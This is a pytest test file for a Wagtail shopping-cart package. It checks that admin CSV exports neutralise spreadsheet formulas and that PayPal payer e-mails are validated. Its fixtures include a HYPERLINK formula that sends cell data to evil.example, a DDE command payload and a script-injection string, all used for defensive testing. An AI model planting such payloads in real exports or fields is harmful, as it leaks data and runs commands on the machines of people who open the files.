"""CSV exports cannot carry spreadsheet formulas; PayPal's payer e-mail is stored only if it is
an address."""

import csv
import io

import pytest

from wagtail_lockedcarts.admin.spreadsheets import SafeCsvExportMixin, neutralise_cell
from wagtail_lockedcarts.models import Cart, OrderStatus
from wagtail_lockedcarts.models.validators import clean_payer_email
from wagtail_lockedcarts.paypal.reconcile import payment_result_from_order

pytestmark = pytest.mark.django_db

CARTS_URL = "/admin/lockedcarts/carts/"
ORDERS_URL = "/admin/lockedcarts/orders/"
LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
PAYLOADS = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def exported_rows(client, url):
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_a_customer_name_or_payer_email_is_exported_as_text(admin_client, make_cart, payload):
    from wagtail_lockedcarts.models import CartStatus

    cart = make_cart(status=CartStatus.LOCKED, customer_name=payload)
    Cart.objects.filter(pk=cart.pk).update(payer_email=payload)  # as stored before validation existed

    header, row = exported_rows(admin_client, CARTS_URL)[:2]

    cells = dict(zip(header, row))
    assert cells["Customer"] == "'" + payload
    assert cells["Payer e-mail"] == "'" + payload
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_a_formula_in_an_order_is_exported_as_text(admin_client, make_order):
    order = make_order(OrderStatus.SUBMITTED, customer_name=LEAK)
    type(order).objects.filter(pk=order.pk).update(email="@evil")

    header, row = exported_rows(admin_client, ORDERS_URL)[:2]

    cells = dict(zip(header, row))
    assert cells["Customer name"] == "'" + LEAK
    assert cells["E-mail"] == "'@evil"


def test_numbers_dates_and_plain_text_are_exported_unchanged(admin_client, make_cart):
    from wagtail_lockedcarts.models import CartStatus

    make_cart(status=CartStatus.LOCKED, customer_name="Dave Noreturn", lines=[(0, 1)])

    header, row = exported_rows(admin_client, CARTS_URL)[:2]

    cells = dict(zip(header, row))
    assert cells["Customer"] == "Dave Noreturn" and cells["Total"] == "12.50"


def test_every_listing_of_the_package_neutralises_csv_cells():
    from wagtail_lockedcarts.admin.views.carts import CartIndexView
    from wagtail_lockedcarts.admin.views.orders import OrderIndexView
    from wagtail_lockedcarts.modeladmin.options import CartModelAdmin, OrderModelAdmin

    for view in (CartIndexView, OrderIndexView, CartModelAdmin.index_view_class, OrderModelAdmin.index_view_class):
        assert issubclass(view, SafeCsvExportMixin), view


@pytest.mark.parametrize(
    ("value", "exported"),
    [("=1+1", "'=1+1"), ("a=b", "a=b"), ("", ""), (None, None), (12, 12), ("\r\n", "'\r\n")],
)
def test_only_text_starting_with_a_formula_character_gets_an_apostrophe(value, exported):
    assert neutralise_cell(value) == exported


@pytest.mark.parametrize(
    ("email", "stored"),
    [
        ("buyer@example.com", "buyer@example.com"),
        ("  buyer@example.com ", "buyer@example.com"),
        (LEAK, ""),
        ('"><script>alert(1)</script>@x.com', ""),
        ("a" * 250 + "@example.com", ""),
        (["buyer@example.com"], ""),
        (None, ""),
    ],
)
def test_payer_email_from_paypal_is_stored_only_if_it_is_an_address(email, stored):
    order = {"id": "5O190127TN364715T", "status": "COMPLETED", "payer": {"email_address": email}}

    assert payment_result_from_order(order).payer_email == stored
    assert clean_payer_email(email) == stored
